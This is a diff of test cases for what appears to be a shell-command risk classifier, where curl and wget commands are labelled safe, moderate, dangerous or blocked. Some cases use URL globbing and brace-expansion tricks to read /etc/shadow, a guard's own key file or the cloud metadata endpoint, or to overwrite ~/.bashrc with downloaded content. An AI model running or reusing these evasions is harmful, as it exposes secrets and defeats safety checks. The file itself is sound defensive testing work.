@@ -51,4 +51,17 @@ curl "http://10.0.0.[1-99999999999999999999]/"  # want dangerous
 curl "https://x.example/[1-1000].jpg"  # want moderate
 curl -g "http://169.254.169.{254,1}/"  # want moderate
 curl "https://{a,b}.example/"  # want moderate
+curl "http://{169.254.169.254}/latest"  # want dangerous
+curl "file:///etc/{shadow}"  # want moderate
+curl "{file}:///etc/shado[w-w]"  # want moderate
+curl "file://$HOME/.local/{state}/gk-hook/{key}"  # want blocked
+curl "file://$HOME/.local/state/gk-hook/[a-z][a-z][a-z]"  # want blocked
+curl -g http://a.example --next "file://$HOME/.local/{state}/gk-hook/key"  # want blocked
+curl "file://$PWD/src/{main,b}.go"  # want safe
+curl "https://example.com/{.bashrc}" -o "$HOME/#1"  # want dangerous
+curl "https://example.com/[1-3].{bashrc}" --output-dir ~ -o ".#2"  # want dangerous
+curl -O --output-dir ~ "https://example.com/{a,.bashrc}"  # want dangerous
+curl -o "page-#1.html" "https://example.com/[1-1000]"  # want moderate
+curl -O "https://example.com/[1-1000].jpg"  # want moderate
+wget -P ~ https://example.com/%2ebashrc  # want dangerous
 curl "http://[::1]/"  # want safe
